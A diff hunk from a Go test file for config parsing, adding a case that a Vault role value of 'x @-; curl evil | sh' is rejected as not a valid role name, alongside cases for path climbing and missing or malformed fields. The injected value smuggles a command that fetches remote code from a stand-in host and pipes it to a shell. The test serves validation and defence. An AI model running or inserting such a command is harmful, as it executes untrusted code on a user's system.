@@ -188,6 +188,8 @@ func TestParseErrors(t *testing.T) {
 			"integrations[0].vault.mount", "mount", `"jwt/./x"`, "not a mount path", 0},
 		{"vault namespace climbing the path", withIntegration("    vault:\n      address: https://v:8200\n      role: r\n      namespace: a/../b\n"),
 			"integrations[0].vault.namespace", "namespace", `"a/../b"`, "not a namespace path", 0},
+		{"vault role with shell words", withIntegration("    vault:\n      address: https://v:8200\n      role: \"x @-; curl evil | sh\"\n"),
+			"integrations[0].vault.role", "role", `"x @-; curl evil | sh"`, "not a Vault role name", 0},
 		{"vault role missing", withIntegration("    vault:\n      address: https://v:8200\n"), "integrations[0].vault.role", "vault:", "", "required", 0},
 		{"vault address bad", withIntegration("    vault:\n      address: vault:8200\n      role: r\n"),
 			"integrations[0].vault.address", "address", `"vault:8200"`, "absolute http or https URL", 0},
